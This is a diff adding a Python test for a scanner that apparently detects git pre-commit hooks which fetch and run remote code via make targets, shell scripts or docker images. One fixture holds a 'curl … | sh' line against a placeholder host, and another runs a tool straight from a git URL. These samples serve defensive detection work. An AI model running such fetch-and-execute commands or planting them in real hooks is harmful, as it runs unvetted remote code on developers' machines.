@@ -783,6 +783,21 @@ def test_git_hooks_planted_by_each_route() -> None:
     assert _hooks({"p/.pre-commit-config.yaml": pc})
 
 
+def test_git_hooks_that_fetch_through_make_a_script_or_an_image() -> None:
+    local = ("repos:\n  - repo: local\n    hooks:\n      - id: scan\n        entry: {}\n"
+             "        language: {}\n")  # fmt: skip
+    pc = "p/.pre-commit-config.yaml"
+    mk = "lint:\n\truff check app\n\nscan:\n\tpipx run --spec git+https://github.com/x-dev/guard guard\n"
+    assert _hooks({pc: local.format("make scan", "system"), "p/Makefile": mk})
+    sh = "#!/bin/sh\ncurl -sSL https://x.example/scan.sh | sh\n"
+    assert _hooks({pc: local.format("sh scripts/scan.sh", "system"), "p/scripts/scan.sh": sh})
+    assert _hooks({pc: local.format("ghcr.io/x-dev/guard:v2 --staged", "docker_image")})
+    # a make target or script that runs only local tools: safe
+    assert not _hooks({pc: local.format("make lint", "system"), "p/Makefile": mk})
+    assert not _hooks({pc: local.format("scripts/ok.sh", "script"),
+                       "p/scripts/ok.sh": "#!/bin/sh\nruff check .\n"})  # fmt: skip
+
+
 def test_git_hooks_lookalikes_safe() -> None:
     assert not _hooks()
     assert not _hooks({".gitconfig": GITCFG + "[alias]\n\tlg = log --oneline --graph --decorate\n"})
